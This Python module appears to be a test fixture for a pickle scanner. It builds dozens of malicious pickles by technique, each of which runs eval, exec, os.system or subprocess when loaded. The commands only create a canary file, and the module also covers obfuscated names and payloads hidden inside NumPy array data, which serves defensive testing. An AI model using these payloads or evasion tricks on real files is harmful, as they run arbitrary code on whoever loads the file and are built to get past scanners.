"""Malicious pickles by technique: what `pickle.load` runs unasked. Here each would only write a file, the canary.

The techniques are those of the literature on pickle scanners and of the machine itself (`pickletools` documents every
instruction): each way to name a function, each way to call it, and each way to look harmless.
"""

import functools
import marshal
import os
import pickle
import struct

import numpy as np

EXTENSION_CODE = 0xF0
#: Run before `pickle.loads`: some attacks use what an application has set up.
PREPARE = f"import copyreg; copyreg.add_extension('builtins', 'eval', {EXTENSION_CODE})"


# --- the pieces of a pickle -------------------------------------------------------------------------------------------


def text(value):
    """Write a string as protocol 0 does."""
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


def short(value):
    """Write a string as protocol 4 does."""
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def named(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stacked(module, name):
    return short(module) + short(name) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


class Call:
    """Pickles as a call of any function."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def arrays():
    images, labels = np.zeros((2, 28, 28), np.uint8), np.zeros(2, np.uint8)
    return [(images, labels), (images.copy(), labels.copy())]


RECONSTRUCT = call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"I0\n\x85", text("b"))
UINT8 = call(named("numpy", "dtype"), text("u1"), b"I00\n", b"I01\n")


def labels(shape=b"(I2\nt", dtype=UINT8, is_fortran=b"I00\n", data=b"C\x02\x01\x02"):
    """Write two labels in the form of protocol 3, with anything in place of a part."""
    return RECONSTRUCT + b"(I1\n" + shape + dtype + is_fortran + data + b"tb"


def with_labels(attack):
    """Write a dataset with anything in place of its training labels."""
    images, _, test_images, test_labels = (pickle.dumps(array, 3)[2:-1] for pair in arrays() for array in pair)
    return b"\x80\x03(" + images + attack + b"t(" + test_images + test_labels + b"t\x86."


# --- the techniques ---------------------------------------------------------------------------------------------------


@functools.cache
def executed(canary):
    """Return whole pickles by technique; `pickle.loads` runs every one of them, and then the canary exists."""
    source, shell = f"open({str(canary)!r}, 'w').close()", f'echo x > "{canary}"'
    code, command = text(source), text(shell)
    eval_ = named("builtins", "eval")
    run = call(eval_, code)
    getattr_, methodcaller = named("builtins", "getattr"), named("operator", "methodcaller")
    attrgetter, import_module = named("operator", "attrgetter"), named("importlib", "import_module")
    frozenset_, map_ = named("builtins", "frozenset"), named("builtins", "map")
    namespace = named("argparse", "Namespace")
    good = pickle.dumps(arrays(), 2)[2:]
    return {
        # how a function is called
        "REDUCE": run + b".",
        "INST": b"(" + code + b"ibuiltins\neval\n.",
        "OBJ": b"(" + eval_ + code + b"o.",
        "NEWOBJ of an iterator, NEWOBJ of what uses it up":
            b"\x80\x02" + frozenset_ + map_ + eval_ + b"(" + code + b"t\x86\x81\x85\x81.",
        "NEWOBJ_EX of an iterator, NEWOBJ_EX of what uses it up":
            b"\x80\x04" + frozenset_ + map_ + eval_ + b"(" + code + b"t\x86}\x92\x85}\x92.",
        "REDUCE of an iterator, REDUCE of what uses it up":
            call(named("collections", "deque"), call(map_, eval_, b"(" + code + b"t")) + b".",
        "BUILD with a __setstate__ that takes a function":
            call(named("functools", "partial"), named("builtins", "print")) + b"(" + eval_ + b"(" + code + b"t}Ntb)R.",
        "BUILD that plants a __setstate__ in a class":
            b"\x80\x02" + namespace + b"N}" + text("__setstate__") + named("os", "system") + b"s\x86b)\x81" + command
            + b"b.",
        "BUILD that fills __dict__, read back by a call":
            b"\x80\x02" + call(attrgetter, text("run")) + namespace + b")\x81}" + text("run") + eval_ + b"sb\x85R("
            + code + b"tR.",
        "EXT1": b"\x80\x02\x82" + bytes([EXTENSION_CODE]) + b"(" + code + b"tR.",
        "EXT2": b"\x80\x02\x83" + struct.pack("<H", EXTENSION_CODE) + b"(" + code + b"tR.",
        "EXT4": b"\x80\x02\x84" + struct.pack("<i", EXTENSION_CODE) + b"(" + code + b"tR.",
        # how a function is named
        "GLOBAL of os.system": call(named("os", "system"), command) + b".",
        "GLOBAL with the names of Python 2": b"\x80\x02" + call(named("__builtin__", "eval"), code) + b".",
        "STACK_GLOBAL": b"\x80\x04" + call(stacked("builtins", "eval"), code) + b".",
        "STACK_GLOBAL from memoised strings":
            b"\x80\x04" + short("builtins") + b"\x94" + short("exec") + b"\x94" + b"00h\x00h\x01\x93(" + code + b"tR.",
        "STACK_GLOBAL from a memo that was overwritten":
            b"\x80\x04" + short("numpy") + b"q\x00" + short("ndarray") + b"q\x01" + short("builtins") + b"q\x00"
            + short("eval") + b"q\x01" + b"h\x00h\x01\x93(" + code + b"tR.",
        "STACK_GLOBAL of a name written with escapes": b"\x80\x04V\\u0062uiltins\nV\\u0065val\n\x93(" + code + b"tR.",
        "STACK_GLOBAL of a name as Python 2 wrote it": b"\x80\x04S'\\x62uiltins'\nS'\\x65val'\n\x93(" + code + b"tR.",
        "STACK_GLOBAL of a name put together by a call":
            b"\x80\x04" + short("builtins") + call(named("operator", "concat"), text("ev"), text("al")) + b"\x93("
            + code + b"tR.",
        "STACK_GLOBAL of an attribute behind a dot":
            b"\x80\x04" + call(stacked("builtins", "eval.__call__"), code) + b".",
        "getattr on an imported module":
            call(call(getattr_, call(named("builtins", "__import__"), text("os")), text("system")), command) + b".",
        "operator.attrgetter":
            call(call(attrgetter, text("system")) + b"(" + call(import_module, text("os")) + b"tR", command) + b".",
        "operator.methodcaller":
            call(call(methodcaller, text("system"), command), call(import_module, text("os"))) + b".",
        # functions that lists of forbidden names forget
        "posix or nt": call(named(os.system.__module__, "system"), command) + b".",
        "subprocess": call(named("subprocess", "getoutput"), command) + b".",
        "timeit": call(named("timeit", "timeit"), text("0"), code) + b".",
        "cProfile": call(named("cProfile", "run"), code, text(str(canary) + ".2")) + b".",
        "code":
            call(call(getattr_, call(named("code", "InteractiveInterpreter")), text("runsource")), code) + b".",
        "a pickle in the pickle": pickle.dumps(Call(pickle.loads, run + b"."), 4),
        "marshalled code": pickle.dumps(Call(exec, Call(marshal.loads, marshal.dumps(compile(source, "", "exec")))), 4),
        "a function of NumPy's": call(named("numpy.testing._private.utils", "runstring"), code, b"}") + b".",
        "a method of NumPy's that writes":
            call(call(getattr_, pickle.dumps(np.arange(3), 2)[2:-1], text("tofile")), text(str(canary))) + b".",
        "pathlib": pickle.dumps(Call(type(canary).touch, canary), 4),
        # where it hides
        "behind good arrays": pickle.dumps([*arrays(), Call(exec, source)], 4),
        "in place of an array": with_labels(run),
        "in place of a shape": with_labels(labels(shape=run)),
        "in place of a length": with_labels(labels(shape=b"(" + run + b"t")),
        "in place of a dtype": with_labels(labels(dtype=run)),
        "in place of the memory order": with_labels(labels(is_fortran=run)),
        "in place of the bytes": with_labels(labels(data=run)),
        "as the argument of a dtype":
            with_labels(labels(dtype=call(named("numpy", "dtype"), run, b"I00\n", b"I01\n"))),
        "inside a NumPy scalar":
            call(
                named("numpy._core.multiarray", "scalar"),
                call(named("numpy", "dtype"), text("O8"), b"I00\n", b"I01\n"),
                run,
            ) + b".",
        "inside an object array": pickle.dumps([arrays()[0], (np.array([Call(eval, source)], dtype=object), 1)], 4),
        "as the text of a codec":
            call(named("_codecs", "encode"), call(named("builtins", "str"), run), text("latin1")) + b".",
        "as the key of a dictionary": b"}" + run + b"Ns.",
        "thrown away at once": run + b"0" + good,
        "thrown away with its mark": b"(" + run + b"1" + good,
        "before the file breaks": run + b"\xff\xff",
        "before the file is cut off": run,
        "behind a change of protocol": b"\x80\x00\x80\x05\x80\x01" + run + b".",
    }  # fmt: skip
